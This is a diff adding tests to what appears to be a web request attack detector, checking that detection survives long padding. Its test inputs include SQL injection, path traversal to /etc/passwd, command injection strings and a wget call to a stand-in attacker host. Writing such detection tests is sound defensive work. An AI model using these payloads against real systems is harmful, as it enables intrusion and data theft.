@@ -94,3 +94,34 @@ test('an option that runs a command is found where no sign stands beside it', ()
   assert.equal(find('/list?host=-oProxyCommand%3Did').command, 'parameter host: options that run a command');
   assert.deepEqual(find('/list?host=-old'), {});
 });
+
+describe('an attack is found behind whatever stands before it', () => {
+  const BEFORE: readonly (readonly [what: string, text: string])[] = [
+    ['hundreds of plain parameters', 'a=1&'.repeat(300)],
+    ['hundreds with signs', 'a[]=b%20c&'.repeat(300)],
+    ['more with signs than are read one by one', "a=b's&".repeat(700)],
+    ['a long one', `a=${'x'.repeat(8000)}&`],
+  ];
+  for (const [what, text] of BEFORE) {
+    test(what, () => {
+      assert.ok(find(`/p?${text}id=1%27+union+select+1,2--+-`).sqli);
+      assert.ok(find(`/p?${text}f=../../../etc/passwd`).lfi);
+      assert.ok(find(`/p?${text}c=;cat+/etc/passwd`).command);
+    });
+  }
+  test('hundreds of strings in JSON', () => {
+    const strings = Array.from({ length: 300 }, (_, at) => `a${at}`);
+    assert.ok(find(`/p?d=${encodeURIComponent(JSON.stringify([...strings, '127.0.0.1;id']))}`).command);
+  });
+});
+
+test('what programs call themselves behind a bar is no command', () => {
+  for (const [behind, isCommand] of [
+    ['| ping check', false],
+    ['&& wget compatible', false],
+    ['| id', true],
+    ['| cat /etc/passwd', true],
+    ['&& wget http://evil.example/x', true],
+  ] as const)
+    assert.equal(find('/', '-', `${BROWSER} ${behind}`).command !== undefined, isCommand, behind);
+});
